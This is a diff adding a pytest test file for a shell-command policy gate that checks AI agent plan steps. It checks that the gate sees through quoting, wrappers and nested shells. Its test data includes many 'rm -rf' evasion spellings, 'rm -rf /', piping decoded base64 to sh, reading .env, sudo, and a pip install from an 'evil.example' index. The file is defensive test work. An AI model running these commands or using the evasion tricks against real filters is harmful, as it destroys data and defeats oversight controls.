@@ -1,0 +1,230 @@
+"""The deterministic policy engine: its contract, how it reads the shell, and project policies.
+
+The breadth of attacks lives in the corpus (test_policy_corpus.py); these tests pin down the
+behaviours a reader needs to trust the gate: what it sees through, how it follows ``cd`` and
+scripts, and what a project's ``.iter/policy.yaml`` may and may not change.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from models.plan import CommandStep, FileStep, Step, VerifyStep
+from models.policy import Policy, evaluate_steps, load_policy, network_steps
+from models.policy.lexer import tokenize
+from models.policy.shell import parse
+from models.review import Finding
+
+
+@pytest.fixture
+def ws(tmp_path: Path) -> Path:
+    for rel, text in {"src/app.py": "print(1)\n", "README.md": "# r\n", "build/.keep": ""}.items():
+        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / rel).write_text(text)
+    return tmp_path
+
+
+def cmd(command: str, step_id: str = "s1", timeout_s: int | None = None) -> CommandStep:
+    return CommandStep(id=step_id, type="command", command=command, timeout_s=timeout_s)
+
+
+def points(command: str, ws: Path, policy: Policy | None = None) -> set[int]:
+    return {f.point for f in evaluate_steps([cmd(command)], ws, policy or Policy(), require_verify=False)}
+
+
+def write_policy(ws: Path, text: str) -> None:
+    (ws / ".iter").mkdir(exist_ok=True)
+    (ws / ".iter" / "policy.yaml").write_text(text)
+
+
+# ---- the contract ----------------------------------------------------------------------------------
+def test_no_steps_and_no_findings_means_allowed(ws: Path) -> None:
+    assert evaluate_steps([], ws, Policy(), require_verify=False) == []
+    assert evaluate_steps([cmd("pytest -q")], ws, Policy(), require_verify=False) == []
+
+
+def test_finding_names_point_step_and_a_one_line_reason(ws: Path) -> None:
+    verify = VerifyStep(id="v", type="verify", command="pytest")
+    steps: list[Step] = [cmd("ls", "a"), cmd("rm -rf build\n", "b"), verify]
+    findings = evaluate_steps(steps, ws, Policy())
+    assert findings == [
+        Finding(point=2, step_id="b", reason="`rm -rf build` deletes recursively and without asking (rm -rf)")
+    ]
+    assert "point 2 (no destructive operations), step b: `rm -rf build`" in findings[0].line()
+
+
+def test_a_plan_needs_a_verify_step_only_when_asked(ws: Path) -> None:
+    steps: list[Step] = [cmd("ls", "s1"), cmd("pwd", "s2")]
+    assert [(f.point, f.step_id) for f in evaluate_steps(steps, ws, Policy())] == [(8, "s2")]
+    assert evaluate_steps(steps, ws, Policy(), require_verify=False) == []
+
+
+def test_timeouts_above_the_cap_are_blocked_and_the_cap_is_the_projects(ws: Path) -> None:
+    assert {f.point for f in evaluate_steps([cmd("make", timeout_s=2000)], ws, Policy(), False)} == {7}
+    assert evaluate_steps([cmd("make", timeout_s=2000)], ws, Policy(max_timeout_s=3000), False) == []
+
+
+# ---- reading the shell -----------------------------------------------------------------------------
+def test_quoting_and_escapes_are_undone_as_bash_does() -> None:
+    for spelling in ("rm", "'rm'", '"rm"', "r''m", "\\rm", "$'\\x72\\x6d'", "r\\\nm"):
+        words = parse(f"{spelling} -rf x").commands[0].words
+        assert [w.text for w in words] == ["rm", "-rf", "x"], spelling
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sudo -u root env FOO=1 timeout 5 nice -n 3 nohup rm -rf build",
+        "bash -c 'rm -rf build'", "sh -ec \"rm -rf build\"", "bash -c -- 'rm -rf build'",
+        "bash -lc \"bash -c 'rm -rf build'\"", "eval 'rm -rf build'", "echo $(rm -rf build)", "echo `rm -rf build`",
+        "echo ${X:-$(rm -rf build)}", "ls | xargs rm -rf", "find . -name x -exec rm -rf {} \\;",
+        "env -S 'rm -rf build'", "bash <<'EOF'\nrm -rf build\nEOF", "bash <<< 'rm -rf build'",
+        "echo 'rm -rf build' | sh", "alias x='rm -rf build'", "trap 'rm -rf build' EXIT", "a=(1 $(rm -rf build))",
+        "command rm -rf build", "exec rm -rf build", "time rm -rf build", "if true; then rm -rf build; fi",
+        "python3 -c \"import os; os.system('rm -rf build')\"", "x=1; (cd src && rm -rf build) &",
+        "watch -n 5 rm -rf build", "cat > x.sh <<'EOF'\nrm -rf build\nEOF\nsh x.sh",
+    ],
+)
+def test_rm_rf_is_seen_through_wrappers_and_nested_shells(command: str, ws: Path) -> None:
+    assert 2 in points(command, ws)
+
+
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        ("echo 'unbalanced", "could not parse"),
+        ("cat <<EOF\nno end", "could not parse"),
+        ("echo $(ls", "could not parse"),
+        ("if true; then ls", "could not parse"),
+        ("$CMD -rf /", "only known at run time"),
+        ("{rm,-rf,/}", "only known at run time"),
+        ("bash -c \"$PAYLOAD\"", "only known at run time"),
+        ("base64 -d blob | sh", "cannot be checked"),
+        ("bash ./generated.sh", "cannot read"),
+    ],
+)
+def test_what_cannot_be_read_is_blocked(command: str, reason: str, ws: Path) -> None:
+    findings = evaluate_steps([cmd(command)], ws, Policy(), require_verify=False)
+    assert any(f.point == 7 and reason in f.reason for f in findings), [f.line() for f in findings]
+
+
+def test_constructs_real_scripts_use_still_parse() -> None:
+    for src in ("[[ -n $x && $a < $b ]] && echo", "echo $((1 + 2))", "case $x in (a|b) echo;; *) ;; esac",
+                "arr=(a \"b c\"); declare -A m=()", "for ((i=0; i<3; i++)); do :; done", "f() { local x=1; }",
+                "mapfile -t t < <(ls)", "while read -r l; do :; done < f", "time -p make", "! grep -q x f"):
+        parse(src)
+    assert [type(t).__name__ for t in tokenize("a 2>&1 | b")] == ["Word", "Redir", "Op", "Word"]
+
+
+# ---- following cd and scripts ----------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("command", "blocked"),
+    [
+        ("mkdir -p build && cd build && cmake .. && make", False),
+        ("cd src && cat ../README.md", False),
+        ("cd build; cmake ..", True),  # if the cd fails, `..` is the workspace's parent
+        ("(cd build && ls) && cat ../x", True),  # the cd does not outlive its subshell
+        ("cd build | cat ../x", True),  # nor a pipeline
+        ("cd src && cd .. && cd ..", True),
+        ("cd \"$DIR\" && ls", True),
+    ],
+)
+def test_cd_is_followed_through_the_command_line(command: str, blocked: bool, ws: Path) -> None:
+    assert (1 in points(command, ws)) is blocked
+
+
+def test_a_script_written_by_an_earlier_step_is_checked_when_it_runs(ws: Path) -> None:
+    steps: list[Step] = [
+        FileStep(id="w", type="file", path="scripts/clean.sh", action="create", content="#!/bin/sh\nrm -rf /\n"),
+        cmd("sh scripts/clean.sh", "run"),
+    ]
+    findings = evaluate_steps(steps, ws, Policy(), require_verify=False)
+    assert {(f.point, f.step_id) for f in findings} >= {(2, "run")}
+    assert all(f.step_id == "run" for f in findings)
+
+
+def test_a_script_may_cd_to_its_own_directory(ws: Path) -> None:
+    (ws / "scripts").mkdir()
+    (ws / "scripts" / "ci.sh").write_text('#!/bin/bash\nset -euo pipefail\ncd "$(dirname "$0")/.."\npytest -q\n')
+    (ws / "scripts" / "up.sh").write_text('#!/bin/bash\ncd "$(dirname "$0")/../.."\nls\n')
+    assert points("bash scripts/ci.sh", ws) == set()
+    assert points("./scripts/up.sh", ws) == {1}
+
+
+def test_npm_scripts_are_checked_as_the_commands_they_run(ws: Path) -> None:
+    (ws / "package.json").write_text('{"scripts": {"test": "jest", "clean": "rm -rf dist", "pretest": "tsc"}}')
+    assert points("npm test", ws) == set()
+    assert points("npm run clean", ws) == {2}
+
+
+def test_a_symlink_that_leaves_the_workspace_is_an_escape(ws: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
+    outside = tmp_path_factory.mktemp("outside")
+    (ws / "data").symlink_to(outside)
+    write = FileStep(id="s1", type="file", path="data/x.txt", action="create", content="x\n")
+    assert {f.point for f in evaluate_steps([write], ws, Policy(), require_verify=False)} == {1}
+    assert points("cat data/x.txt", ws) == {1}
+    assert points("echo x > data/y.txt", ws) == {1}
+
+
+# ---- project policy --------------------------------------------------------------------------------
+def test_without_a_policy_file_the_defaults_apply(ws: Path) -> None:
+    assert load_policy(ws) == Policy()
+
+
+def test_deny_rules_match_the_command_behind_its_wrappers(ws: Path) -> None:
+    write_policy(ws, "deny:\n  - {pattern: '^terraform (apply|destroy)', point: 2, reason: real infrastructure}\n")
+    policy = load_policy(ws)
+    for command in ("terraform apply", "env TF_LOG=1 terraform apply -auto-approve", "bash -c 'terraform destroy'"):
+        findings = evaluate_steps([cmd(command)], ws, policy, require_verify=False)
+        assert [(f.point, f.reason) for f in findings] == [(2, "real infrastructure")], command
+    assert points("terraform plan", ws, policy) == set()
+
+
+def test_allow_rules_lift_network_and_say_which_steps_need_it(ws: Path) -> None:
+    write_policy(ws, "allow:\n  - pattern: '^pip install (-r requirements\\.txt|requests)$'\n    network: true\n")
+    policy = load_policy(ws)
+    steps: list[Step] = [cmd("pip install requests", "deps"), cmd("pip install flask", "other"), cmd("pytest", "t")]
+    findings = evaluate_steps(steps, ws, policy, require_verify=False)
+    assert [(f.point, f.step_id) for f in findings] == [(5, "other")]
+    assert network_steps(steps, policy) == {"deps"}
+    assert network_steps(steps, Policy()) == set()
+
+
+def test_allow_rules_never_lift_paths_destruction_secrets_or_privilege(ws: Path) -> None:
+    write_policy(ws, "allow:\n  - {pattern: '.*', reason: everything}\n")
+    policy = load_policy(ws)
+    for command, point in (("cp x /etc/x", 1), ("rm -rf build", 2), ("cat .env", 3), ("sudo ls", 6)):
+        assert point in points(command, ws, policy), command
+    assert points("curl https://example.com", ws, policy) == set()
+    assert points("pip install --index-url https://evil.example/simple x", ws, policy) == set()
+    assert points("echo 'x", ws, policy) == {7}, "what cannot be parsed stays blocked"
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("deny: [", "cannot read it as YAML"),
+        ("- just a list", "expected a mapping"),
+        ("deny:\n  - {pattern: '(', point: 2}\n", "not a valid regular expression"),
+        ("deny:\n  - {pattern: x, point: 9}\n", "deny.0.point"),
+        ("allow:\n  - {pattern: x, points: [2]}\n", "allow.0.points.0"),
+        ("allow:\n  - {pattern: x, points: [4], network: true}\n", "must include 5"),
+        ("alow: []\n", "alow"),
+        ("max_timeout_s: -1\n", "max_timeout_s"),
+    ],
+)
+def test_a_bad_policy_file_is_one_line_value_error(text: str, message: str, ws: Path) -> None:
+    write_policy(ws, text)
+    with pytest.raises(ValueError) as err:
+        load_policy(ws)
+    assert message in str(err.value) and "\n" not in str(err.value)
+    assert str(err.value).startswith(".iter/policy.yaml")
+    with pytest.raises(ValueError):
+        evaluate_steps([cmd("ls")], ws)  # policy None reads the same file
+
+
+def test_policy_none_reads_the_workspace_policy(ws: Path) -> None:
+    write_policy(ws, "max_timeout_s: 60\n")
+    assert [f.point for f in evaluate_steps([cmd("make", timeout_s=120)], ws, require_verify=False)] == [7]
